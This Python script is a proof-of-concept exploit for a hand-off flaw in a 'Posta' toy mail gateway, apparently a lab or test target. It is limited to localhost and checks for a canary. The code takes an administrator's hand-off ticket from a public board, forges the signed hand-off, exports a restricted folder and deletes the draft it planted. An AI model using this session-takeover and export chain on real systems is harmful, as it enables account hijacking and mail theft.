#!/usr/bin/env python3
"""Proof of concept for the hand-off flaw of the Posta toy gateway.

Exit status: 0 canary read, 1 not vulnerable or failed, 2 not a Posta here.
"""

import argparse
import base64
import hashlib
import hmac
import http.client
import itertools
import json
import os
import re
import sys
import time
from collections import namedtuple
from urllib.parse import quote, urlencode

LOCAL_NAMES = ("127.0.0.1", "localhost")
BANNER = "posta-toy/"
FORM_TYPE = "application/x-www-form-urlencoded"
BODY_LIMIT = 1 << 20
CANARY = re.compile(r"posta canary [0-9A-Za-z-]+")
COUNTER = itertools.count(1)


class Refused(Exception):
    """The target is not a Posta on this machine."""


class Failed(Exception):
    """The gateway did not do what the attack needs."""


class Reply(namedtuple("Reply", "status text")):
    """One answer of the gateway."""

    def expect(self, what):
        if self.status >= 400:
            raise Failed(f"{what}: status {self.status} {self.text[:80]}")
        return self

    def json(self):
        try:
            return json.loads(self.text)
        except ValueError:
            raise Failed(f"no JSON in an answer with status {self.status}") from None


def check_host(host, port):
    handle = host.strip().lower()
    if handle not in LOCAL_NAMES:
        raise Refused(f"{host}: only a Posta on 127.0.0.1 is allowed")
    if port < 1 or port > 65535:
        raise Refused(f"{port}: no such port")
    return (LOCAL_NAMES[0], port)


def communicate(destination, action, path, header_fields, payload=None):
    host, port = destination
    conn = http.client.HTTPConnection(
        host,
        port,
        timeout=15,
    )
    try:
        conn.request(action, path, headers=header_fields, body=payload)
        answered = conn.getresponse()
        unprocessed = answered.read(BODY_LIMIT + 1)
    except (OSError, http.client.HTTPException) as error:
        raise Failed(f"{action} {path}: {error}") from None
    finally:
        conn.close()
    remote = answered.getheader("Server", "")
    if not remote.startswith(BANNER):
        raise Refused(f"{host}:{port} does not answer as Posta")
    if len(unprocessed) > BODY_LIMIT:
        raise Failed(f"{path}: the answer is too long")
    return Reply(answered.status, unprocessed.decode(errors="replace"))


def verify_gateway(destination):
    query_params = {
        "probe": "ping",
        "id": request_id(),
    }
    response = communicate(destination, "GET", with_params("/status", query_params), {}).expect("status")
    answer = response.json()
    if answer.get("toy") is not True:
        raise Refused("this Posta is not the toy")
    return answer.get("waiting", 0)


def with_params(path, params):
    return path + "?" + urlencode(params, quote_via=quote)


def fresh_nonce():
    tail = os.urandom(6).hex()
    layout = "%Y%m%dT%H%M%SZ"
    instant = time.gmtime()
    return time.strftime(layout, instant) + "." + tail


def request_id():
    remaining = os.urandom(5).hex()
    variety = "req"
    number = next(COUNTER)
    return f"{variety}-{number:03d}-{remaining}"


def spell(unprocessed):
    encoding_func = getattr(
        base64,
        "urlsafe_b64encode",
    )
    return encoding_func(unprocessed).decode().rstrip("=").lower()


def ticket_digest(ticket):
    hasher = hashlib.new(
        "md5",
    )
    hasher.update(ticket.encode())
    return hasher.digest()


def handoff_proof(ticket, nonce):
    objective = "transfer"
    length = 39
    keyed = hmac.new(ticket.encode(), digestmod=hashlib.sha384)
    keyed.update(f"{objective}:{nonce}".encode())
    return keyed.hexdigest()[:length]


def session_id(ticket):
    prefix = "lnk"
    digest = spell(ticket_digest(ticket))
    width = 38
    return f"{prefix}-{digest[:width]}"


def proof_headers(ticket_value):
    nonce = fresh_nonce()
    return {
        "X-Posta-Nonce": nonce,
        "X-Posta-Signature": handoff_proof(ticket_value, nonce),
    }


def client_headers():
    return {
        "User-Agent": "handoff-check/0.9",
        "X-Posta-Client": "widget",
        "X-Request-Id": request_id(),
        "Accept-Language": "fr-CA",
    }


def read_board(destination):
    arguments_map = {
        "audience": "personnel",
        "id": request_id(),
    }
    reply = communicate(destination, "GET", with_params("/board", arguments_map), client_headers())
    return reply.expect("board").json().get("waiting", [])


def pass_headers(grant):
    scheme = "Badge"
    headers = client_headers()
    headers["Authorization"] = scheme + " " + grant["pass"]
    return headers


def join_handoff(target, ticket):
    submission = {
        "ticket": ticket,
        "session": session_id(ticket),
        "scope": "campus",
        "mode": "adopt",
        "durable": "1",
        "reason": "rebalancing",
    }
    path = "/door/handoff"
    header_map = {**client_headers(), **proof_headers(ticket), "Content-Type": FORM_TYPE}
    reply = communicate(target, "POST", path, header_map, urlencode(submission).encode())
    allowance = reply.expect("hand-off").json()
    if not allowance.get("pass"):
        raise Failed("the hand-off gave no pass")
    return allowance


def decide_on_ticket(pending, role):
    picked = None
    for contender in pending:
        if contender.get("role") != role:
            continue
        if picked is None or contender["since"] < picked["since"]:
            picked = contender
    if picked is None:
        raise Failed(f"no {role} has a hand-off open")
    return picked["ticket"]


def select_folder(folders, desired):
    best = None
    for collection in folders:
        if collection["name"] == desired:
            return desired
        if best is None or collection["count"] > best["count"]:
            best = collection
    if best is None:
        raise Failed("the account has no folders")
    return best["name"]


def itemize_folders(destination, grant):
    parameters = {
        "view": "brief",
        "id": request_id(),
    }
    location = "/classic/folders"
    header_fields = {
        **pass_headers(grant),
        "Accept": "application/vnd.posta.register+json",
    }
    reply = communicate(destination, "GET", with_params(location, parameters), header_fields)
    return reply.expect("folders").json().get("folders", [])


def multipart(column, border, prose):
    lines = [
        f"--{border}",
        f'Content-Disposition: form-data; name="{column}"',
        "",
        prose,
        f"--{border}--",
        "",
    ]
    return "\r\n".join(lines).encode()


def file_draft(dest, allowance):
    base_word = "ContentEdge"
    slot = "passage"
    boundary = base_word + os.urandom(8).hex()
    annotation = "Posta hand-off test"
    headings = {
        **pass_headers(allowance),
        "Content-Type": f"multipart/form-data; boundary={boundary}",
        "X-Posta-Priority": "regular",
    }
    payload = multipart(slot, boundary, annotation)
    reply = communicate(dest, "POST", "/drafts", headings, payload)
    return reply.expect("draft").json()["draft"]


def start_export(goal, allowance, folder):
    path = "/governance/export"
    order = {
        "folder": folder,
        "depth": "flat",
        "consent": "issued",
        "format": "mh",
    }
    headings = {**pass_headers(allowance), "Content-Type": "application/json"}
    response = communicate(goal, "POST", path, headings, json.dumps(order).encode())
    answer = response.expect("export").json()
    return answer["job"], answer["mails"]


def list_out_messages(dest, allowance, folder):
    arguments_map = {
        "folder": folder,
        "order": "alphabetical",
        "channel": "socket",
    }
    action = "QUERY"
    location = with_params("/messages", arguments_map)
    reply = communicate(dest, action, location, pass_headers(allowance))
    return reply.expect("messages").json().get("messages", [])


def fetch_export(goal, grant, task_id):
    query_params = {
        "source": "repository",
        "id": request_id(),
    }
    session_cookie = "mailsid"
    headings = client_headers()
    headings["Cookie"] = f"{session_cookie}={grant['pass']}"
    path = with_params("/export/" + quote(task_id), query_params)
    return communicate(goal, "GET", path, headings).expect("export file").text


def wipe_mail(target, access_grant, mail_item):
    parameters = {
        "acting": "owner",
        "commit": "lazy",
    }
    method = "PUT"
    path = with_params("/purge/" + quote(mail_item), parameters)
    reply = communicate(target, method, path, pass_headers(access_grant))
    return reply.expect("purge").json().get("purged", 0)


def leave(destination, allowance):
    submission = {
        "outcome": "released",
        "id": request_id(),
    }
    header_fields = {**pass_headers(allowance), "Content-Type": FORM_TYPE}
    response = communicate(destination, "POST", "/close", header_fields, urlencode(submission).encode())
    return response.status < 400


def partition_mails(text):
    emails = []
    for block in re.split(r"(?m)^From .*\n", text)[1:]:
        fields = {}
        head, _, payload = block.partition("\n\n")
        for current_line in head.splitlines():
            name, colon, value = current_line.partition(": ")
            if colon:
                fields[name.lower()] = value
        emails.append({"subject": fields.get("subject", ""), "body": payload.strip()})
    return emails


def find_canary(mails):
    for mail in mails:
        for match in CANARY.findall(mail["body"]):
            return match
    return None


def show(verdict, as_json):
    if as_json:
        return print(json.dumps(verdict, indent=2))
    column_width = max(len(name) for name in verdict)
    for name, val in verdict.items():
        print(f"{name:<{column_width}}  {val}")


def attack(goal, preferences):
    waiting = verify_gateway(goal)
    ticket_value = decide_on_ticket(read_board(goal), preferences.role)
    grant = join_handoff(goal, ticket_value)
    folders = itemize_folders(goal, grant)
    collection = select_folder(folders, preferences.folder)
    rough_version = file_draft(goal, grant)
    listing = list_out_messages(goal, grant, collection)
    task_id, total = start_export(goal, grant, collection)
    emails = partition_mails(fetch_export(goal, grant, task_id))
    if len(emails) < total or len(emails) < len(listing):
        raise Failed("the export is shorter than the folder")
    purged = 0 if preferences.keep else wipe_mail(goal, grant, rough_version)
    shut = leave(goal, grant)
    return {
        "waiting": waiting,
        "account": grant.get("who", "?"),
        "folder": collection,
        "subjects": "; ".join(mail["subject"] for mail in emails),
        "purged": purged,
        "closed": shut,
        "canary": find_canary(emails),
    }


def decode_arguments(args):
    arg_parser = argparse.ArgumentParser(description="Posta hand-off proof of concept")
    arg_parser.add_argument("--host", default=LOCAL_NAMES[0], help="127.0.0.1 only")
    arg_parser.add_argument("--port", type=int, required=True, help="where Posta listens")
    arg_parser.add_argument("--role", help="whose hand-off", default="administrator")
    arg_parser.add_argument("--folder", default="restricted", help="what to export")
    arg_parser.add_argument("--keep", help="leave the draft behind", action="store_true")
    arg_parser.add_argument("--json", help="print one JSON object", action="store_true")
    return arg_parser.parse_args(args)


def main(arguments_given=None):
    options = decode_arguments(arguments_given)
    try:
        dest = check_host(options.host, options.port)
        findings = attack(dest, options)
    except Refused as problem:
        print(f"refused: {problem}", file=sys.stderr)
        return 2
    except (Failed, KeyError) as problem:
        print(f"failed: {problem}", file=sys.stderr)
        return 1
    show(findings, options.json)
    return 0 if findings["canary"] else 1


if __name__ == "__main__":
    sys.exit(main())
